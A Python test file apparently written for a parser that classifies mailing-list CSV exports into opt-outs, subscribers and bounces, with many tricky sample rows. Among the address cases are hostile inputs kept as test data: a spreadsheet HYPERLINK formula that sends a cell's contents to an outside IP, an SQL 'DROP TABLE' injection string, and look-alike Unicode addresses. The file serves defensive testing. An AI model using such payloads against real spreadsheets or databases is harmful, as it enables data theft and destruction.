"""Lists that mislead, beside what each line may mean; written by hand. Nobody who is subscribed is ever opted out."""

# ruff: noqa: E501  one picture, one line

from __future__ import annotations

from tests.processor.gallery.case import Case

A, B, C = "anna@example.com", "bernd@example.de", "carla@example.net"
OUT_A, OUT_B, OUT_C = f"optout {A}", f"optout {B}", f"optout {C}"
IN_A, IN_B, IN_C = f"subscribed {A}", f"subscribed {B}", f"subscribed {C}"


def rows(*lines: str) -> bytes:
    """One line each, cells between semicolons."""
    return "".join(line + "\r\n" for line in lines).encode()


EVERYBODY = rows("E-Mail;Vorname;Nachname;Telefon", f"{A};Anna;Muster;030 123", f"{B};Bernd;Klein;")
ACTIVE = rows("E-Mail;Status", f"{A};aktiv", f"{B};aktiv")

SUBSCRIBERS = {
    "customers without a status": Case(EVERYBODY, "no_meaning"),
    "customers in a file called customers": Case(EVERYBODY, "no_meaning", name="Kundenliste.csv"),
    "customers in a file called subscribers": Case(EVERYBODY, "no_meaning", name="Abonnenten.csv"),
    "subscribers by name among the opt-outs": Case(EVERYBODY, "subscribers_in_optouts", name="Abonnenten Mai.csv", folder="optouts"),
    "active customers": Case(ACTIVE, [IN_A, IN_B]),
    "active customers among the opt-outs": Case(ACTIVE, "subscribers_in_optouts", folder="optouts"),
    "active customers called opt-outs": Case(ACTIVE, "lines_against_name", name="Abmeldungen.csv"),
    "active customers called bounces": Case(ACTIVE, "lines_against_name", name="Bounces.csv"),
    "active customers among the bounces": Case(ACTIVE, "lines_against_name", folder="bounces"),
    "nobody is unsubscribed": Case(rows("E-Mail;Unsubscribed", f"{A};0", f"{B};0"), [IN_A, IN_B]),
    "nobody is unsubscribed, among the opt-outs": Case(rows("E-Mail;Unsubscribed", f"{A};0", f"{B};0"), "subscribers_in_optouts", folder="optouts"),
    "nobody is unsubscribed, called unsubscribed": Case(rows("E-Mail;Unsubscribed", f"{A};false", f"{B};no"), "lines_against_name", name="unsubscribed.csv"),
    "unsubscribed, says the heading, subscribed, say the cells": Case(rows("E-Mail;Unsubscribed", f"{A};subscribed", f"{B};subscribed"), "no_meaning"),
    "the same among the opt-outs": Case(rows("E-Mail;Unsubscribed", f"{A};subscribed", f"{B};subscribed"), "words_without_meaning", folder="optouts"),
    "the same in German": Case(rows("E-Mail;Abgemeldet", f"{A};angemeldet", f"{B};angemeldet"), "words_without_meaning", folder="optouts"),
    "opt-out, says the heading, opt-in, say the cells": Case(rows("E-Mail;Opt-out", f"{A};opt-in", f"{B};opt-in"), "words_without_meaning", folder="optouts"),
    "everybody wants the newsletter": Case(rows("E-Mail;Newsletter", f"{A};ja", f"{B};ja"), [IN_A, IN_B]),
    "everybody wants the newsletter, among the opt-outs": Case(rows("E-Mail;Newsletter", f"{A};ja", f"{B};ja"), "subscribers_in_optouts", folder="optouts"),
    "consent given": Case(rows("E-Mail;Einwilligung", f"{A};erteilt", f"{B};erteilt"), "subscribers_in_optouts", folder="optouts"),
    "nobody is blocked": Case(rows("E-Mail;Werbesperre", f"{A};nein", f"{B};"), [f"ignored:not_opted_out {A}", f"ignored:not_opted_out {B}"]),
    "nobody is blocked, among the opt-outs": Case(rows("E-Mail;Werbesperre", f"{A};nein", f"{B};"), "subscribers_in_optouts", folder="optouts"),
    "nobody bounced": Case(rows("E-Mail;Bounced", f"{A};0", f"{B};0"), "lines_against_name", folder="bounces"),
    "a date of signing up": Case(rows("E-Mail;Angemeldet am", f"{A};2024-05-01", f"{B};2024-05-02"), "no_meaning"),
    "a date of birth": Case(rows("E-Mail;Geburtsdatum", f"{A};1980-05-01", f"{B};1981-05-02"), "no_meaning"),
    "an empty date of leaving": Case(rows("E-Mail;Abgemeldet am", f"{A};", f"{B};"), "nothing_usable"),
    "an empty date of leaving, among the opt-outs": Case(rows("E-Mail;Abgemeldet am", f"{A};", f"{B};"), "nothing_usable", folder="optouts"),
    "a list after the opt-outs were taken out": Case(EVERYBODY, "no_meaning", name="Verteiler ohne Abmeldungen.csv"),
    "resubscribed people": Case(EVERYBODY, "no_meaning", name="unsubscribes reactivated.csv"),
    "orders": Case(rows("E-Mail;Status;Bestellung", f"{A};storniert;4711", f"{B};versandt;4712"), "no_meaning"),
    "orders that were cancelled": Case(rows("Email;Status", f"{A};cancelled", f"{B};cancelled"), "no_meaning"),
    "invoices": Case(rows("E-Mail;Rechnung;Betrag", f"{A};R-1;12,50", f"{B};R-2;99,00"), "no_meaning"),
    "numbers nobody explained": Case(rows("E-Mail;Status", f"{A};1", f"{B};0"), "numbers_without_meaning"),
    "numbers nobody explained, among the opt-outs": Case(rows("E-Mail;Status", f"{A};1", f"{B};0"), "numbers_without_meaning", folder="optouts"),
    "yes and no nobody explained": Case(rows("E-Mail;Status", f"{A};ja", f"{B};nein"), "numbers_without_meaning", folder="optouts"),
    "ticks and crosses": Case(rows("E-Mail;Status", f"{A};✓", f"{B};✗"), "numbers_without_meaning", folder="optouts"),
}  # fmt: skip

FLAGS = {
    "yes and no": Case(rows("E-Mail;Abgemeldet", f"{A};ja", f"{B};nein"), [OUT_A, IN_B]),
    "yes and no the other way round": Case(rows("E-Mail;Newsletter erlaubt", f"{A};ja", f"{B};nein"), [IN_A, OUT_B]),
    "both ways, agreeing": Case(rows("E-Mail;Subscribed;Unsubscribed", f"{A};0;1", f"{B};1;0"), [OUT_A, IN_B]),
    "both ways, both yes": Case(rows("E-Mail;Subscribed;Unsubscribed", f"{A};1;1", f"{B};1;0"), [OUT_A, IN_B]),
    "both ways, both no": Case(rows("E-Mail;Subscribed;Unsubscribed", f"{A};0;0", f"{B};1;0"), [OUT_A, IN_B]),
    "two statuses that agree": Case(rows("E-Mail;List status;Global status", f"{A};unsubscribed;unsubscribed", f"{B};subscribed;subscribed"), [OUT_A, IN_B]),
    "two statuses that do not": Case(rows("E-Mail;List status;Global status", f"{A};subscribed;unsubscribed", f"{B};unsubscribed;subscribed"), [OUT_A, OUT_B]),
    "one status twice": Case(rows("E-Mail;Status;Status", f"{A};aktiv;abgemeldet", f"{B};aktiv;aktiv"), [f"rejected:words_disagree {A}", IN_B]),
    "a second status nobody asks for": Case(rows("E-Mail;Status E-Mail-Versand;Status", f"{A};abgemeldet;aktiv", f"{B};aktiv;aktiv"), "column_against_column"),
    "an active opt-out": Case(rows("E-Mail;Aktiv", f"{A};ja", f"{B};nein"), "column_against_name", folder="optouts"),
    "an inactive opt-out": Case(rows("E-Mail;Aktiv", f"{A};nein", f"{B};nein"), [OUT_A, OUT_B], folder="optouts"),
    "complaints about parcels": Case(rows("E-Mail;Ticket;Beschwerde", f"{A};4711;ja", f"{B};4712;nein"), "too_general"),
    "consent to photos": Case(rows("E-Mail;Klasse;Einwilligung", f"{A};3a;ja", f"{B};3b;nein"), "too_general"),
    "staff who left": Case(rows("Correo;Nombre;Fecha de baja", f"{A};Ana;01.03.2026", f"{B};Berta;"), "too_general"),
    "goods that came back": Case(rows("E-Mail;Artikel;Rückläufer", f"{A};4711;ja", f"{B};4712;nein"), "too_general"),
    "the name says customers and opt-outs": Case(rows("E-Mail", A, B), "no_meaning", name="Kunden mit Abmeldungen.csv"),
    "a status nobody knows beside one that is clear": Case(rows("E-Mail;Status", f"{A};abgemeldet", f"{B};lila"), [OUT_A, f"rejected:unknown_word {B}"]),
    "a status nobody knows among the opt-outs": Case(rows("E-Mail;Status", f"{A};abgemeldet", f"{B};lila"), [OUT_A, f"rejected:unknown_word {B}"], folder="optouts"),
    "not unsubscribed": Case(rows("E-Mail;Status", f"{A};not unsubscribed", f"{B};unsubscribed"), [f"rejected:unknown_word {A}", OUT_B]),
    "nicht abgemeldet": Case(rows("E-Mail;Status", f"{A};nicht abgemeldet", f"{B};abgemeldet"), [f"rejected:unknown_word {A}", OUT_B]),
    "subscribed with a letter from Cyrillic": Case(rows("E-Mail;Status", f"{A};unsubsсribed", f"{B};unsubscribed"), [f"rejected:unknown_word {A}", OUT_B]),
    "a sentence for a reason": Case(rows("E-Mail;Grund", f"{A};zu viele Mails", f"{B};abgemeldet"), [f"rejected:unknown_word {A}", OUT_B]),
    "a sentence for a reason, among the opt-outs": Case(rows("E-Mail;Grund", f"{A};zu viele Mails", f"{B};"), [OUT_A, OUT_B], folder="optouts"),
    "still subscribed, says the reason, among the opt-outs": Case(rows("E-Mail;Grund", f"{A};angemeldet", f"{B};abgemeldet"), [IN_A, OUT_B], folder="optouts"),
    "waiting for an answer": Case(rows("E-Mail;Status", f"{A};pending", f"{B};unsubscribed"), [f"ignored:unconfirmed {A}", OUT_B]),
    "a bounce among the opt-outs": Case(rows("E-Mail;Grund", f"{A};hard bounce", f"{B};abgemeldet"), [f"bounce:mailbox_unknown {A}", OUT_B], folder="optouts"),
    "an answering machine among the bounces": Case(rows("E-Mail;Grund", f"{A};out of office", f"{B};hard bounce"), [f"ignored:auto_reply {A}", f"bounce:mailbox_unknown {B}"], folder="bounces"),
    "hard, says the type, full, says the server": Case(rows("E-Mail;Bounce type;Error message", f"{A};hard;452 4.2.2 mailbox full", f"{B};hard;550 5.1.1 user unknown"), [f"bounce:mailbox_full {A}", f"bounce:mailbox_unknown {B}"]),
    "hard, says the type, blocked, says the server": Case(rows("E-Mail;Bounce type;Error message", f"{A};hard;554 5.7.1 blocked using a blocklist", f"{B};hard;550 5.1.1 user unknown"), [f"bounce:blocked {A}", f"bounce:mailbox_unknown {B}"]),
    "the name says opt-outs, the folder bounces": Case(rows("E-Mail", A, B), "contradiction", name="Abmeldungen.csv", folder="bounces"),
    "the name says both": Case(rows("E-Mail", A, B), "no_meaning", name="Abmeldungen und Bounces.csv"),
    "the name says it, nothing else": Case(rows("E-Mail", A, B), [OUT_A, OUT_B], name="Abmeldungen.csv"),
    "the folder says it, nothing else": Case(rows(A, B), [OUT_A, OUT_B], folder="optouts"),
    "nothing says it": Case(rows(A, B), "no_meaning"),
}  # fmt: skip

COLUMNS = {
    "two columns of addresses": Case(rows("E-Mail;E-Mail-Adresse;Grund", f"{A};{B};abgemeldet"), "several_address_columns"),
    "two columns of one heading": Case(rows("E-Mail;E-Mail;Grund", f"{A};{B};abgemeldet"), "several_address_columns"),
    "sender and receiver": Case(rows("Von;An;Grund", f"chef@example.com;{A};abgemeldet"), [OUT_A]),
    "sender beside an address": Case(rows("From;E-Mail;Grund", f"chef@example.com;{A};abgemeldet"), [OUT_A]),
    "an owner beside an address": Case(rows("E-Mail;Ansprechpartner;Grund", f"{A};vertrieb@example.com;abgemeldet"), [OUT_A]),
    "an empty second column of addresses": Case(rows("E-Mail;E-Mail 2;Grund", f"{A};;abgemeldet", f"{B};;abgemeldet"), [OUT_A, OUT_B]),
    "addresses under a heading for names": Case(rows("Name;Grund", f"{A};abgemeldet", f"{B};abgemeldet"), [OUT_A, OUT_B]),
    "names under a heading for addresses": Case(rows("E-Mail;Kontakt;Grund", f"Anna;{A};abgemeldet", f"Bernd;{B};abgemeldet"), [OUT_A, OUT_B]),
    "an address in a remark": Case(rows("Name;Bemerkung;Status", f"Anna;bitte an {A} schreiben;abgemeldet", "Bernd;;abgemeldet"), "nothing_usable"),
    "an address in a remark beside an address": Case(rows("E-Mail;Bemerkung;Status", f"{A};neu: anna.neu@example.com;abgemeldet"), [OUT_A]),
    "no column of addresses": Case(rows("Name;Grund", "Anna;abgemeldet"), "no_addresses"),
    "two reasons": Case(rows("E-Mail;Grund;Bemerkung", f"{A};abgemeldet;", f"{B};;Spam-Beschwerde"), [OUT_A, f"complaint {B}"]),
}  # fmt: skip

ADDRESSES = {
    "wildcards": Case(rows("E-Mail", "*@example.com", "info@*", "*.example.net", A), ["rejected:wildcard *@example.com", "rejected:wildcard info@*", "rejected:wildcard *.example.net", OUT_A], folder="optouts"),
    "whole domains": Case(rows("E-Mail", "example.com", "@example.net", A), ["rejected:domain_only example.com", "rejected:domain_only @example.net", OUT_A], folder="optouts"),
    "digests": Case(rows("E-Mail", "d41d8cd98f00b204e9800998ecf8427e", "DA39A3EE5E6B4B0D3255BFEF95601890AFD80709", A), ["rejected:hash d41d8cd98f00b204e9800998ecf8427e", "rejected:hash DA39A3EE5E6B4B0D3255BFEF95601890AFD80709", OUT_A], folder="optouts"),
    "telephone numbers": Case(rows("E-Mail", "+49 170 1234567", "0170/1234567", A), ["rejected:phone +49 170 1234567", "rejected:phone 0170/1234567", OUT_A], folder="optouts"),
    "wildcards before the first address, no heading": Case(rows("*@example.com", "example.net", A, B), ["rejected:wildcard *@example.com", "rejected:domain_only example.net", OUT_A, OUT_B], folder="optouts"),
    "several in a cell": Case(rows("E-Mail", f'"{A}; {B}"', f'"{C}, dora@example.at"'), [OUT_A, OUT_B, OUT_C, "optout dora@example.at"], folder="optouts"),
    "the same twice in a cell": Case(rows("E-Mail", f'"{A}; {A.upper()}"'), [OUT_A], folder="optouts"),
    "a name before it": Case(rows("E-Mail", f'"""Muster, Anna"" <{A}>"', f"Bernd <{B}>"), [OUT_A, OUT_B], folder="optouts"),
    "a comment behind it": Case(rows("E-Mail", f"{A} (privat)", f"{B} (alt: b@example.com)"), [OUT_A, "rejected:several_unclear bernd@example.de (alt: b@example.com)"], folder="optouts"),
    "mailto": Case(rows("E-Mail", f"mailto:{A}", f"MAILTO:{B}?subject=Abmeldung"), [OUT_A, OUT_B], folder="optouts"),
    "guards against formulas": Case(rows("E-Mail", "'+plus@example.com", "\t-minus@example.com", '"=""gleich@example.com"""'), ["optout +plus@example.com", "optout -minus@example.com", "optout gleich@example.com"], folder="optouts"),
    "a formula for an address": Case(rows("E-Mail", '"=HYPERLINK(""http://198.51.100.1/?""&A1;""anna@example.com"")"', A), ['rejected:no_at =HYPERLINK("http://198.51.100.1/?"&A1', OUT_A, OUT_A], folder="optouts"),
    "letters of HTML": Case(rows("E-Mail", "o&#039;neil@example.com", "&lt;bernd@example.de&gt;"), ["optout o'neil@example.com", OUT_B], folder="optouts"),
    "letters nobody sees": Case(rows("E-Mail", "an\u200bna@example.com", "\u202ebernd@example.de", "\ufeffcarla@example.net"), [OUT_A, OUT_B, OUT_C], folder="optouts"),
    "blanks that do not break": Case(rows("E-Mail", f"\u00a0{A}\u00a0", f"{B}\u2003"), [OUT_A, OUT_B], folder="optouts"),
    "a domain that looks like another": Case(rows("E-Mail", "anna@ехample.com", A), ["optout anna@xn--ample-ywe6i.com", OUT_A], folder="optouts"),
    "a name that looks like another": Case(rows("E-Mail", "аnna@example.com", A), ["optout аnna@example.com", OUT_A], folder="optouts"),
    "wide letters": Case(rows("E-Mail", "anna@ｅｘａｍｐｌｅ.com"), [OUT_A], folder="optouts"),
    "a domain with an umlaut": Case(rows("E-Mail", "emil@müller-example.de", "emil@xn--mller-example-wob.de"), ["optout emil@xn--mller-example-wob.de"] * 2, folder="optouts"),
    "ß is not ss": Case(rows("E-Mail", "a@straße.example", "a@strasse.example"), ["optout a@xn--strae-oqa.example", "optout a@strasse.example"], folder="optouts"),
    "capitals": Case(rows("E-Mail", "ANNA@EXAMPLE.COM"), [OUT_A], folder="optouts"),
    "tags and dots stay": Case(rows("E-Mail", "anna+news@example.com", "a.n.n.a@example.com"), ["optout anna+news@example.com", "optout a.n.n.a@example.com"], folder="optouts"),
    "two at signs": Case(rows("E-Mail", "anna@@example.com", "anna@example.com@example.net", B), ["rejected:several_unclear anna@@example.com", "rejected:several_unclear anna@example.com@example.net", OUT_B], folder="optouts"),
    "a blank inside": Case(rows("E-Mail", "anna @example.com", "an na@example.com", B), ["rejected:blank_inside anna @example.com", "rejected:blank_inside an na@example.com", OUT_B], folder="optouts"),
    "at in letters": Case(rows("E-Mail", "anna(at)example.com", "anna[at]example.com", B), ["rejected:no_at anna(at)example.com", "rejected:no_at anna[at]example.com", OUT_B], folder="optouts"),
    "an end that is no domain": Case(rows("E-Mail", "anna@localhost", "anna@192.0.2.1", "anna@[192.0.2.1]", B), ["rejected:syntax anna@localhost", "rejected:syntax anna@192.0.2.1", "rejected:syntax anna@[192.0.2.1]", OUT_B], folder="optouts"),
    "too long": Case(rows("E-Mail", "a" * 300 + "@example.com", B), ["rejected:too_long " + "a" * 200, OUT_B], folder="optouts"),
    "words for nothing": Case(rows("E-Mail", "n/a", "NULL", "-", B), ["rejected:no_address n/a", "rejected:no_address NULL", "rejected:no_address -", OUT_B], folder="optouts"),
    "a trailing dot, comma, colon": Case(rows("E-Mail", f"{A}.", f'"{B},"', f"{C};"), [OUT_A, OUT_B, OUT_C], folder="optouts"),
    "a line of SQL": Case(rows("E-Mail", "x'; DROP TABLE customers; --@example.com", A), ["rejected:no_at x'", "rejected:no_at DROP TABLE customers", "optout --@example.com", OUT_A], folder="optouts"),
    "stars over it": Case(rows("E-Mail", "a***a@example.com", A), ["rejected:wildcard a***a@example.com", OUT_A], folder="optouts"),
}  # fmt: skip
